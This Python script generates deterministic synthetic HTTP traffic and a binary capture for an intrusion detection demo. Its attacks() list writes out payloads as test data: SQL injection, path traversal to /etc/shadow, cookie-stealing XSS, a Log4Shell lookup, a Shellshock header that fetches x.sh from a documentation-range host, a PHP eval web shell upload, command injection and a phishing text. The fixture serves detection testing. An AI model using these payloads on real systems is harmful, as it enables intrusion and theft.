#!/usr/bin/env python3
"""Writes the synthetic traffic in samples/traffic/ that vael-scan's demo scans.

The output is fully determined by this script (its own pseudo-random
generator, no clock, no system randomness), so running it again gives the
same bytes. The files are committed; run this only to change them:

    python3 samples/make_samples.py

traffic/http-benign.txt   ordinary HTTP requests and responses
traffic/http-attacks.txt  the same kind of traffic with attacks mixed in
traffic/capture.bin       random bytes with a few binary protocol headers

Hosts and addresses come from the ranges reserved for documentation
(example.com, 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24).
"""

import os


class Rng:
    """64-bit linear congruential generator: the same sequence on every Python."""

    def __init__(self, seed):
        self.state = seed & 0xFFFFFFFFFFFFFFFF

    def next(self):
        self.state = (self.state * 6364136223846793005 + 1442695040888963407) & 0xFFFFFFFFFFFFFFFF
        return self.state >> 33

    def below(self, n):
        return self.next() % n

    def pick(self, items):
        return items[self.below(len(items))]

    def hex(self, n):
        return "".join("0123456789abcdef"[self.below(16)] for _ in range(n))


HOSTS = ["www.example.com", "shop.example.com", "api.example.org", "static.example.net", "intranet.example.com"]

BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.4.0",
]

PAGES = [
    "/", "/index.html", "/about", "/contact", "/products", "/products/42", "/products/1337/reviews",
    "/blog/2023/10/release-notes", "/static/css/site.css", "/static/img/logo.png", "/api/v1/items?page=2",
    "/api/v1/cart", "/search?q=blue+shoes", "/help/faq", "/account/orders", "/favicon.ico",
]

WORDS = (
    "network traffic packet stream session client server request response header body cache proxy "
    "gateway route policy filter rule signature match offset buffer payload record flow latency "
    "throughput window segment frame checksum handshake certificate cipher token account order "
    "product review shipping invoice payment catalogue discount support release notes update"
).split()

SERVERS = ["nginx/1.22.1", "Apache/2.4.57 (Debian)", "envoy", "Caddy"]

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]


def sentence(rng, words):
    return " ".join(rng.pick(WORDS) for _ in range(words)).capitalize() + "."


def date(rng):
    return "%s, %02d Nov 2023 %02d:%02d:%02d GMT" % (
        rng.pick(DAYS), 1 + rng.below(28), rng.below(24), rng.below(60), rng.below(60))


def request(rng, method=None, path=None, agent=None, extra_headers=(), body=None):
    method = method or ("POST" if rng.below(8) == 0 else "GET")
    path = path or rng.pick(PAGES)
    if method == "POST" and body is None:
        body = "item=%d&quantity=%d&note=%s" % (rng.below(5000), 1 + rng.below(9), rng.pick(WORDS))
    lines = [
        "%s %s HTTP/1.1" % (method, path),
        "Host: %s" % rng.pick(HOSTS),
        "User-Agent: %s" % (agent or rng.pick(BROWSERS)),
        "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language: en-US,en;q=0.5",
        "Accept-Encoding: gzip, deflate, br",
        "Connection: keep-alive",
    ]
    if rng.below(2) == 0:
        lines.append("Cookie: session=%s; theme=%s" % (rng.hex(32), rng.pick(["light", "dark"])))
    lines.extend(extra_headers)
    if body is not None:
        lines.append("Content-Type: application/x-www-form-urlencoded")
        lines.append("Content-Length: %d" % len(body.encode()))
    return "\r\n".join(lines) + "\r\n\r\n" + (body or "")


def response(rng):
    status = rng.pick(["200 OK"] * 8 + ["304 Not Modified", "404 Not Found"])
    if status.startswith("200"):
        paragraphs = "".join("<p>%s</p>\n" % sentence(rng, 8 + rng.below(20)) for _ in range(1 + rng.below(4)))
        body = ("<!DOCTYPE html>\n<html><head><title>%s</title></head>\n<body>\n%s</body></html>\n"
                % (sentence(rng, 3), paragraphs))
    elif status.startswith("404"):
        body = "<html><body><h1>Not Found</h1></body></html>\n"
    else:
        body = ""
    lines = [
        "HTTP/1.1 " + status,
        "Date: " + date(rng),
        "Server: " + rng.pick(SERVERS),
        "Content-Type: text/html; charset=utf-8",
        "Content-Length: %d" % len(body.encode()),
        "Cache-Control: max-age=%d" % (60 * rng.below(120)),
    ]
    return "\r\n".join(lines) + "\r\n\r\n" + body


def exchange(rng):
    return request(rng) + response(rng)


def message(path, text):
    """A POST of UTF-8 prose, fixed text: it draws nothing from the generator."""
    body = text.encode()
    head = [
        "POST %s HTTP/1.1" % path,
        "Host: www.example.com",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Length: %d" % len(body),
    ]
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body + b"\n"


# Prose in a few languages, for the word patterns: a help-desk note among the
# benign traffic, a phishing mail among the attacks.
BENIGN_MESSAGE = (
    "Bonjour, j'ai oublié mon mot de passe. Le lien « mot de passe oublié » ne marche pas.\n"
    "Danke für die schnelle Überweisung der Rechnung!\n"
    "Please send the password-reset link again (the first one expired).\n"
)
ATTACK_MESSAGE = (
    "URGENT: your account is locked. Confirm the wire transfer today, or send a password reset.\n"
    "Ihre Überweisung wurde gestoppt. Ваш пароль истёк, введите пароль здесь.\n"
    "请立即登录您的账户。 Pay the fee in Bitcoin: bc1qexamplebitcoinaddress.\n"
)


def attacks(rng):
    """Requests an intrusion detection system should notice."""
    multipart = (
        "------b0undary\r\n"
        'Content-Disposition: form-data; name="file"; filename="avatar.php"\r\n'
        "Content-Type: image/png\r\n\r\n"
        "<?php @eval($_POST['cmd']); ?>\r\n"
        "------b0undary--\r\n")
    return [
        request(rng, path="/products.php?id=1%27%20OR%20%271%27=%271",
                agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
        request(rng, path="/products.php?id=-1+UNION+SELECT+username,password+FROM+users--",
                agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
        # Written in lower case: found only when matching without regard to case.
        request(rng, path="/item.php?cat=2+union+select+1,2,concat(user,0x3a,password)--"),
        request(rng, method="POST", path="/api/v1/report", body="filter=name';waitfor delay '0:0:5'--"),
        request(rng, path="/cgi-bin/test.cgi", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"),
        request(rng, path="/download?file=../../../../etc/passwd"),
        request(rng, path="/static/%2e%2e/%2e%2e/etc/shadow"),
        request(rng, path="/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        request(rng, method="POST", path="/blog/comment",
                body="name=eve&comment=<img src=x onerror=alert(document.cookie)>"),
        request(rng, path="/", extra_headers=["X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}"]),
        request(rng, path="/cgi-bin/status",
                agent="() { :; }; /bin/bash -c 'wget http://203.0.113.5/x.sh -O /tmp/x.sh'"),
        request(rng, method="POST", path="/wp-login.php",
                agent="WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
                body="log=admin&pwd=admin123&wp-submit=Log+In"),
        request(rng, method="POST", path="/upload.php", body=multipart,
                extra_headers=["Content-Type: multipart/form-data; boundary=----b0undary"]),
        request(rng, method="POST", path="/tools/ping.php", body="host=192.0.2.1;uname -a"),
        request(rng, path="/.git/config", agent="Go-http-client/1.1"),
        request(rng, path="/phpmyadmin/index.php", agent="ZmEu"),
        request(rng, path="/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", agent="Go-http-client/1.1"),
        request(rng, path="/manager/html", extra_headers=["Authorization: Basic YWRtaW46YWRtaW4="]),
    ]


def capture(rng, size):
    """Random bytes with protocol headers and file magic at fixed places."""
    data = bytearray(rng.below(256) for _ in range(size))
    embedded = [
        (100, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
        (1500, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
        # The record behind the 512 bytes of the handshake: ChangeCipherSpec.
        (2017, b"\x14\x03\x03\x00\x01\x01"),
        (4000, b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"),
        (6500, b"\x7fELF\x02\x01\x01\x00" + bytes(8)),
        (9000, b"\x90" * 24 + b"\x31\xc0\x50\x68"),
    ]
    for offset, blob in embedded:
        data[offset:offset + len(blob)] = blob
    return bytes(data)


def main():
    out_dir = os.path.join(os.path.dirname(os.path.abspath(__file__)), "traffic")
    os.makedirs(out_dir, exist_ok=True)
    rng = Rng(20231122)

    benign = "".join(exchange(rng) for _ in range(90))

    mixed = []
    for attack in attacks(rng):
        mixed.extend(exchange(rng) for _ in range(1 + rng.below(2)))
        mixed.append(attack + response(rng))
    mixed.append(exchange(rng))

    files = {
        "http-benign.txt": benign.encode() + message("/support/ticket", BENIGN_MESSAGE),
        "http-attacks.txt": "".join(mixed).encode() + message("/mail/inbox", ATTACK_MESSAGE),
        "capture.bin": capture(rng, 12 * 1024),
    }
    for name, data in files.items():
        with open(os.path.join(out_dir, name), "wb") as f:
            f.write(data)
        print("%-18s %7d bytes" % (name, len(data)))


if __name__ == "__main__":
    main()
